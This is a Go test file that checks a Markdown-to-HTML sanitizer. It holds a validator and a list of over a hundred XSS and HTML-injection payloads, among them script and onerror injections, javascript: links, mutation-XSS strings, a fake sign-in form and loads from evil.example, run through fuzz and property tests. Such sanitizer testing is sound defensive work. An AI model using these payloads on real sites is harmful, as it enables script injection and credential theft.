package markup

import (
	"fmt"
	"net/url"
	"regexp"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"pgregory.net/rapid"
)

// unsafe returns what a browser could run, load or be led to in a piece of HTML,
// or how it would break out of its place; "" when nothing.
func unsafe(fragment, idPrefix string, inlineOnly bool) string {
	z := html.NewTokenizer(strings.NewReader(fragment))
	var open []string
	for {
		kind := z.Next()
		if kind == html.ErrorToken {
			if len(open) > 0 {
				return "left open: " + strings.Join(open, " ")
			}
			return ""
		}
		t := z.Token()
		switch kind {
		case html.CommentToken, html.DoctypeToken:
			return "comment or doctype: " + t.String()
		case html.EndTagToken:
			if len(open) == 0 || open[len(open)-1] != t.Data {
				return "closes what is not open: " + t.Data
			}
			open = open[:len(open)-1]
		case html.StartTagToken, html.SelfClosingTagToken:
			if where := elements[t.Data]; where != inline && (where != block || inlineOnly) {
				return "element " + t.Data
			}
			if t.Data == "img" {
				return "an image is loaded"
			}
			if t.Data != "br" && t.Data != "hr" {
				open = append(open, t.Data)
			}
			for _, a := range t.Attr {
				if problem := unsafeAttribute(t.Data, a, idPrefix); problem != "" {
					return problem
				}
			}
		}
	}
}

func unsafeAttribute(element string, a html.Attribute, idPrefix string) string {
	switch a.Key {
	case "href":
		if strings.HasPrefix(a.Val, "#") {
			return ""
		}
		u, err := url.Parse(a.Val)
		if err != nil || u.Scheme != "http" && u.Scheme != "https" && u.Scheme != "mailto" {
			return "link to " + a.Val
		}
	case "id":
		if idPrefix == "" || !strings.HasPrefix(a.Val, idPrefix) {
			return "id " + a.Val
		}
	case "class":
		if element == "a" && a.Val == "bare" {
			return ""
		}
		if element != "code" || !strings.HasPrefix(a.Val, "language-") {
			return "class " + a.Val
		}
	case "rel":
		if a.Val != "noopener noreferrer nofollow" {
			return "rel " + a.Val
		}
	case "title", "align", "colspan", "rowspan", "start":
	default:
		return "attribute " + a.Key
	}
	return ""
}

// attacks are our own; each is tried alone, within Markdown, and inline.
var attacks = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<script/x>alert(1)</script>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	"<script\x00>alert(1)</script>",
	"<script\n>alert(1)</script\n>",
	`<img src=x onerror=alert(1)>`,
	`<img/src=x/onerror=alert(1)>`,
	`<img src="https://evil.example/pixel.gif">`,
	`<img src="javascript:alert(1)">`,
	`<img src="data:image/svg+xml;base64,PHN2Zz4=">`,
	"<img src=`x` onerror=`alert(1)`>",
	`<img """><script>alert(1)</script>">`,
	`<img alt="<script>alert(1)</script>" src="https://a.example/b.png">`,
	`<img alt="&quot;&gt;&lt;script&gt;" src="https://a.example/b.png">`,
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="https://evil.example/x.swf"></object>`,
	`<embed src="https://evil.example/x">`,
	`<form action="https://evil.example"><input name=password><button>Sign in</button></form>`,
	`<button formaction="javascript:alert(1)">x</button>`,
	`<textarea></textarea><img src=x onerror=alert(1)>`,
	`<style>@import "https://evil.example/x.css"</style>`,
	`<style>*{background:url(https://evil.example)}</style>`,
	`<link rel=stylesheet href="https://evil.example/x.css">`,
	`<meta http-equiv=refresh content="0;url=https://evil.example">`,
	`<base href="https://evil.example/">`,
	`<body onload=alert(1)>`,
	`<div style="position:fixed;inset:0">overlay</div>`,
	`<b style="background:url(https://evil.example)">x</b>`,
	`<p onclick=alert(1) onmouseover="alert(2)">x</p>`,
	`<details open ontoggle=alert(1)><summary>x</summary></details>`,
	`<video src=x onerror=alert(1)></video>`,
	`<audio autoplay src="https://evil.example/a.mp3">`,
	`<source srcset="https://evil.example/a.png">`,
	`<picture><source srcset="https://evil.example/a.png"><img src=x></picture>`,
	`<input autofocus onfocus=alert(1)>`,
	`<select><option>x</select>`,
	`<template><script>alert(1)</script></template>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<title></title><script>alert(1)</script>`,
	`<xmp><script>alert(1)</script></xmp>`,
	`<plaintext>`,
	`<marquee onstart=alert(1)>x</marquee>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`,
	`<a href=" javascript:alert(1)">x</a>`,
	"<a href=\"java\tscript:alert(1)\">x</a>",
	"<a href=\"java\nscript:alert(1)\">x</a>",
	"<a href=\"\x01javascript:alert(1)\">x</a>",
	`<a href="&#106;avascript:alert(1)">x</a>`,
	`<a href="&#x6A&#x61vascript:alert(1)">x</a>`,
	`<a href="javascript&colon;alert(1)">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="file:///etc/passwd">x</a>`,
	`<a href="//evil.example/x">x</a>`,
	`<a href="/\evil.example">x</a>`,
	`<a href="https://ok.example" onclick="alert(1)" target=_blank rel=opener>x</a>`,
	`<a href='https://ok.example/"onmouseover="alert(1)'>x</a>`,
	`<a name=x id=location>x</a>`,
	`<h2 id=document class=admin>x</h2>`,
	`<h2 id="x-same">a</h2><h2 id="x-same">b</h2>`,
	"[x](javascript:alert(1))",
	"[x](JAVASCRIPT:alert(1))",
	"[x](java&#115;cript:alert(1))",
	"[x](javascript&#58;alert(1))",
	"[x](<javascript:alert(1)>)",
	"[x](data:text/html;base64,PHNjcmlwdD4=)",
	"[x](https://ok.example \"\\\" onmouseover=\\\"alert(1)\")",
	"[x](https://ok.example/\"onmouseover=\"alert(1))",
	"[x]: javascript:alert(1)\n\n[x]",
	"![x](javascript:alert(1))",
	"![x](https://evil.example/pixel.png)",
	"![\"onerror=\"alert(1)](x)",
	"![<script>](https://a.example/b \"<script>\")",
	"[![x](https://evil.example/a.png)](https://evil.example)",
	"<javascript:alert(1)>",
	"<https://ok.example/\"onmouseover=alert(1)>",
	"<mailto:a@b.example?subject=\"><script>alert(1)</script>>",
	"```\"onmouseover=alert(1)\ncode\n```",
	"```<script>\n</code></pre><script>alert(1)</script>\n```",
	"`</code><script>alert(1)</script>`",
	"|<script>|\n|-|\n|</td></tr></table><script>alert(1)</script>|",
	"</div></div></body></html><script>alert(1)</script>",
	"</td></tr></table><b>after",
	"<td>in your cell</td>",
	"<li>in your list",
	"<table><tr><td></table></td><tr><td>",
	"<b><i></b></i><a href='https://a.example'><a href='https://b.example'>",
	"<!--><img src=x onerror=alert(1)>-->",
	"<!-- --!><img src=x onerror=alert(1)> -->",
	"<!--",
	"<![CDATA[<script>alert(1)</script>]]>",
	"<?php echo 1 ?><script>alert(1)</script>",
	"<!DOCTYPE html><script>alert(1)</script>",
	"<\u017fcript>alert(1)</\u017fcript>",
	"\ufeff<script>alert(1)</script>",
	"&lt;script&gt;alert(1)&lt;/script&gt;",
	"\\<script>alert(1)\\</script>",
	"<b\x00 onclick=alert(1)>",
	"<p title='</p><script>alert(1)</script>'>",
	"\xff\xfe<script>\xc0\xbcscript>",
	"# x {onclick=alert(1)}",
	"# x {#document style=color:red}",
}

func TestNothingRunsNorLoads(t *testing.T) {
	wrappings := []string{"%s", "text %s text", "- a\n  - %s", "> %s", "|a|\n|-|\n|%s|", "**%s**", "[%s](https://ok.example)", "# %s", "<b>%s", "<!-- %s"}
	for _, attack := range attacks {
		for _, wrap := range wrappings {
			md := fmt.Sprintf(wrap, attack)
			got := HTML(md, Options{IDPrefix: "x-"})
			if problem := unsafe(got, "x-", false); problem != "" {
				t.Errorf("HTML(%q): %s\n%s", md, problem, got)
			}
			got = Inline(md)
			if problem := unsafe(got, "", true); problem != "" {
				t.Errorf("Inline(%q): %s\n%s", md, problem, got)
			}
		}
	}
	if len(attacks) < 60 {
		t.Errorf("only %d attacks", len(attacks))
	}
}

// TestStaysInPlace puts the HTML of every attack into a cell of a table and has
// it parsed as browsers do: what follows it must still be in that table.
func TestStaysInPlace(t *testing.T) {
	for _, attack := range attacks {
		page := "<table><tr><td><div>" + HTML(attack, Options{}) + "</div></td><td id=next>x</td></tr></table>" +
			"<ul><li><div>" + HTML(attack, Options{}) + "</div></li><li id=item>x</li></ul>" +
			"<p>" + Inline(attack) + "<i id=inline></i></p>"
		doc, err := html.Parse(strings.NewReader(page))
		if err != nil {
			t.Fatal(err)
		}
		for id, want := range map[string]string{"next": "tr tbody table body html", "item": "ul body html", "inline": "p body html"} {
			if got := ancestors(doc, id); got != want {
				t.Errorf("%q moved #%s: it is in %q, not %q", attack, id, got, want)
			}
		}
	}
}

// TestNoTextIsLost builds texts of numbered words with signs and tags between
// them; every word must be read in the result, whatever they combine to.
func TestNoTextIsLost(t *testing.T) {
	signs := []string{" ", "\n", "\n\n", "*", "**", "_", "~~", "`", "#", "\n# ", "\n- ", "\n1. ", "\n> ", "\n    ", "|", "\n|", "\n|-|\n", "[", "]", "](", ")", "![", "<", ">",
		"<b>", "</b>", "<td>", "</td>", "<table>", "</table>", "<li>", "<pre>", "</pre>", "<div>", "<script>", "</script>", "<style>", "<foo>", "<br>", "<details>", "<a href=x>", "</a>", "&", "&lt;", "\\", "\t", "\n---\n", "\n===\n", "<!--", "-->x"}
	rapid.Check(t, func(t *rapid.T) {
		var b strings.Builder
		pieces := rapid.SliceOfN(rapid.SampledFrom(signs), 1, 40).Draw(t, "signs")
		for i, sign := range pieces {
			fmt.Fprintf(&b, "w%dw%s", i, sign)
		}
		hidden := regexp.MustCompile(`(?s)<!--.*?-->`).ReplaceAllString(b.String(), "")
		for name, got := range map[string]string{"HTML": HTML(b.String(), Options{}), "Inline": Inline(b.String()), "Text": Text(b.String())} {
			for i := range pieces {
				if word := fmt.Sprintf("w%dw", i); !strings.Contains(got, word) && strings.Contains(hidden, word) {
					t.Fatalf("%s loses %s of %q: %q", name, word, b.String(), got)
				}
			}
		}
	})
}

func ancestors(n *html.Node, id string) string {
	for d := range n.Descendants() {
		for _, a := range d.Attr {
			if a.Key == "id" && a.Val == id {
				var names []string
				for p := d.Parent; p != nil && p.Type == html.ElementNode; p = p.Parent {
					names = append(names, p.Data)
				}
				return strings.Join(names, " ")
			}
		}
	}
	return "nowhere"
}

func FuzzHTML(f *testing.F) {
	for _, attack := range attacks {
		f.Add(attack)
	}
	for name, build := range pathological() {
		f.Add(name + build(200))
	}
	f.Fuzz(func(t *testing.T, md string) {
		got := HTML(md, Options{IDPrefix: "x-", TopHeading: 3})
		if problem := unsafe(got, "x-", false); problem != "" {
			t.Errorf("HTML(%q): %s\n%s", md, problem, got)
		}
		got = Inline(md)
		if problem := unsafe(got, "", true); problem != "" {
			t.Errorf("Inline(%q): %s\n%s", md, problem, got)
		}
		if strings.ContainsAny(Text(md), "\x00\x1b\x07\u009b\r") {
			t.Errorf("Text(%q) keeps control characters", md)
		}
	})
}
